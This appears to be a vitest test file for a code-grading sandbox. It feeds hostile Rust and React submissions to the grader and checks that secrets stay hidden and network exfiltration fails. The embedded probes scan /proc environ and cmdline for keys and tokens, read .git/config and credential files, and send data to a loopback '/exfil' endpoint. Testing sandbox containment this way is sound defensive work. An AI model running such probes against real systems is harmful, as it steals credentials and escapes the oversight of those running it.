import { createServer as createTcpServer, type Server } from 'node:net';
import { createSocket, type Socket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GradeEnv } from '../src/grade/toolchains/types.js';
import {
  createHost,
  grader,
  prepareFor,
  hostileTask,
  leakedSecrets,
  NAMESPACES,
  rs,
  type Grader,
  type HostileHost,
} from './support/hostile.js';

/**
 * Hostile submissions, items 1–3 of the issue: code that hunts for the runner's secrets (its own env,
 * the parent's and every other process's environ, the checkout's .git/config, the runner temp folder,
 * the home folder, the run's out dir) or phones home. Each probe reports everything it found in its
 * failure message — the very text the harness feeds back to the model — so a leak would show up there.
 * Each test asserts the probe really ran (its controls succeed), found nothing, and the attempt failed.
 */

const rust = hostileTask('hostile-rust/L1-clamp');
const node = hostileTask('hostile-node/L1-greeting');
let host: HostileHost;
let env: GradeEnv;
let grade: Grader;

beforeAll(async () => {
  host = createHost();
  env = await prepareFor(host, [rust, node]);
  grade = grader(env, host, 21);
});
afterAll(() => host?.cleanup());

/** The places a secret could be read from, by (short name, absolute path). */
function secretFiles(): [string, string][] {
  return [
    ['gitconfig', path.join(host.checkout, '.git', 'config')],
    ['runner-temp', path.join(host.runnerTemp, 'secret.env')],
    ['home', path.join(host.home, '.config', 'credentials')],
    ['results', path.join(host.outDir, 'results.json')],
  ];
}

/**
 * Rust: dumps its env and, when `hunt`, walks /proc (parent first) and reads the secret files; panics
 * with the findings. Without namespaces only the env part is expected to come back empty.
 */
function rustProbe(hunt: boolean): string {
  const files = [...secretFiles(), ['control', 'Cargo.toml']]
    .map(([k, p]) => `(${rs(k!)}, ${rs(p!)})`)
    .join(', ');
  return `
fn read(p: &str, n: usize) -> String {
    match std::fs::read(p) {
        Ok(b) => format!("Ok({})", String::from_utf8_lossy(&b).replace('\\0', " ").chars().take(n).collect::<String>()),
        Err(e) => format!("Err({:?})", e.kind()),
    }
}
fn secretish(s: &str) -> bool { ["KEY", "TOKEN", "SECRET", "INPUT_", "sk-", "ghs_", "decoy"].iter().any(|m| s.contains(m)) }
pub fn clamp(_v: i64, _a: i64, _b: i64) -> i64 {
    let names: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    let own: Vec<String> = std::env::vars().map(|(k, v)| format!("{}={}", k, v)).filter(|kv| secretish(kv)).collect();
    let ppid = std::os::unix::process::parent_id();
    let (mut seen, mut found) = (0, Vec::new());
    for e in std::fs::read_dir("/proc").unwrap().flatten().filter(|_| ${hunt}) {
        let pid = e.file_name().into_string().unwrap();
        if !pid.chars().all(|c| c.is_ascii_digit()) { continue; }
        seen += 1;
        for part in [read(&format!("/proc/{}/environ", pid), 1 << 16), read(&format!("/proc/{}/cmdline", pid), 1 << 16)] {
            found.extend(part.split(' ').filter(|kv| secretish(kv)).map(|kv| format!("{}:{}", pid, kv)));
        }
    }
    let mut r = format!("PROBE env-names={}\\nenv-secrets={:?}\\nppid={} ppid-environ={}\\nprocs={} proc-secrets={:?}\\n",
        names.join(","), own, ppid, read(&format!("/proc/{}/environ", ppid), 1 << 16).len(), seen, found);
    for (k, p) in [${files}] { if ${hunt} { r += &format!("{}={}\\n", k, read(p, 160)); } }
    panic!("{}", r);
}
`;
}

/** The same hunt from a React component (the tamper scan is off for this task). */
function nodeProbe(hunt: boolean): string {
  const files = JSON.stringify([...secretFiles(), ['control', 'package.json']]);
  return `// @ts-nocheck
import { readdirSync, readFileSync } from 'node:fs';
const read = (p, n = 160) => { try { return 'Ok(' + readFileSync(p, 'utf8').replace(/\\0/g, ' ').slice(0, n) + ')'; } catch (e) { return 'Err(' + e.code + ')'; } };
const secretish = (s) => /KEY|TOKEN|SECRET|INPUT_|sk-|ghs_|decoy/.test(s);
const found = [];
let seen = 0;
for (const pid of readdirSync('/proc').filter((d) => ${hunt} && /^\\d+$/.test(d))) {
  seen++;
  for (const part of [read('/proc/' + pid + '/environ', 1 << 16), read('/proc/' + pid + '/cmdline', 1 << 16)]) found.push(...part.split(' ').filter(secretish).map((kv) => pid + ':' + kv));
}
const lines = ['PROBE env-names=' + Object.keys(process.env).join(','), 'env-secrets=' + Object.entries(process.env).map(([k, v]) => k + '=' + v).filter(secretish).join(' ')];
lines.push('ppid=' + process.ppid + ' ppid-environ=' + read('/proc/' + process.ppid + '/environ', 1 << 16).length + ' procs=' + seen + ' proc-secrets=' + found.join(' '));
for (const [k, p] of ${hunt} ? ${files} : []) lines.push(k + '=' + read(p));
const report = lines.join('\\n');
export function Greeting({ name }: { name: string }): null {
  throw new Error(report + name);
}
`;
}

describe('hostile: secrets stay secret (items 1–2)', () => {
  it('1. Rust code reading its environment finds no API key, token or INPUT_* (only the allowlist)', async () => {
    const r = await grade(rust, rustProbe(false));
    expect(r.outcome).toBe('test');
    expect(r.feedback).toContain('PROBE env-names=');
    expect(r.feedback).toMatch(/env-names=[^\n]*\bPATH\b/);
    expect(r.feedback).toContain('env-secrets=[]');
    expect(leakedSecrets(host, JSON.stringify(r))).toEqual([]);
  });

  it('1. a React component reading process.env finds no API key or token', async () => {
    const r = await grade(node, nodeProbe(false));
    expect(r.outcome).toBe('test');
    expect(r.feedback).toMatch(/PROBE env-names=[^\n]*\bPATH\b/);
    expect(r.feedback).toMatch(/env-secrets=\s*\n/);
    expect(leakedSecrets(host, JSON.stringify(r))).toEqual([]);
  });

  it.runIf(NAMESPACES)(
    '2. /proc/<ppid>/environ, every /proc/*/environ and cmdline, .git/config, runner temp, home and the out dir: nothing (Rust)',
    async () => {
      const r = await grade(rust, rustProbe(true));
      expect(r.outcome).toBe('test');
      // The probe ran: it saw its own PID namespace (cargo and the test binary) and read its own Cargo.toml.
      expect(r.feedback).toMatch(/procs=[1-9]\d* proc-secrets=\[\]/);
      expect(r.feedback).toMatch(/control=Ok\(\[package\]/);
      // The harness's decoy (keys in its environ), the checkout, the runner temp, home and the out dir are hidden.
      for (const k of ['gitconfig', 'runner-temp', 'home', 'results'])
        expect(r.feedback).toContain(`${k}=Err(NotFound)`);
      expect(leakedSecrets(host, JSON.stringify(r))).toEqual([]);
      expect(host.decoy.exitCode).toBeNull();
    },
  );

  it.runIf(NAMESPACES)('2. the same hunt from a React component under vitest finds nothing', async () => {
    const r = await grade(node, nodeProbe(true));
    expect(r.outcome).toBe('test');
    expect(r.feedback).toMatch(/procs=[1-9]\d* proc-secrets=\s*\n/);
    expect(r.feedback).toMatch(/control=Ok\(\{/);
    for (const k of ['gitconfig', 'runner-temp', 'home', 'results'])
      expect(r.feedback).toContain(`${k}=Err(ENOENT)`);
    expect(leakedSecrets(host, JSON.stringify(r))).toEqual([]);
  });
});

describe.runIf(NAMESPACES)('hostile: nothing leaves over the network (item 3)', () => {
  // Servers on the HOST's loopback only (never any other address): inside the sandbox's own network
  // namespace, 127.0.0.1 is a different, empty loopback, so the connection must be refused.
  let tcp: Server;
  let udp: Socket;
  let tcpConnections = 0;
  let udpDatagrams = 0;
  beforeAll(async () => {
    tcp = createTcpServer((s) => {
      tcpConnections++;
      s.end('HOST-REACHED');
    });
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    udp = createSocket('udp4').on('message', () => udpDatagrams++);
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  });
  afterAll(async () => {
    udp?.close();
    await new Promise((resolve) => tcp?.close(resolve));
  });

  it('Rust: TCP and UDP to the host loopback never arrive; the only interface is lo', async () => {
    const port = (tcp.address() as AddressInfo).port;
    const udpPort = udp.address().port;
    const r = await grade(
      rust,
      `use std::io::Read;
pub fn clamp(_v: i64, _a: i64, _b: i64) -> i64 {
    let addr: std::net::SocketAddr = "127.0.0.1:${port}".parse().unwrap();
    let tcp = std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(2))
        .and_then(|mut s| { let mut b = String::new(); s.read_to_string(&mut b)?; Ok(b) });
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").and_then(|s| s.send_to(b"exfil", "127.0.0.1:${udpPort}"));
    let dev = std::fs::read_to_string("/proc/net/dev").unwrap_or_default();
    let ifaces: Vec<&str> = dev.lines().skip(2).filter_map(|l| l.split(':').next()).map(|s| s.trim()).collect();
    panic!("NET tcp={:?} udp-sent={} ifaces={:?}", tcp.map_err(|e| e.kind()), udp.is_ok(), ifaces);
}
`,
    );
    expect(r.outcome).toBe('test');
    expect(r.feedback).toContain('NET tcp=Err(ConnectionRefused)');
    expect(r.feedback).toContain('ifaces=["lo"]');
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect([tcpConnections, udpDatagrams]).toEqual([0, 0]);
  });

  it('React: fetch() to the host loopback is refused inside vitest', async () => {
    const port = (tcp.address() as AddressInfo).port;
    const r = await grade(
      node,
      `// @ts-nocheck
let status = 'pending';
try {
  status = 'reached:' + (await (await fetch('http://127.0.0.1:${port}/exfil?k=1')).text());
} catch (e) {
  status = 'refused:' + (e.cause?.code ?? e.message);
}
export function Greeting({ name }: { name: string }): null {
  throw new Error('NET ' + status + name);
}
`,
    );
    expect(r.outcome).toBe('test');
    expect(r.feedback).toContain('NET refused:ECONNREFUSED');
    expect(tcpConnections).toBe(0);
  });
});
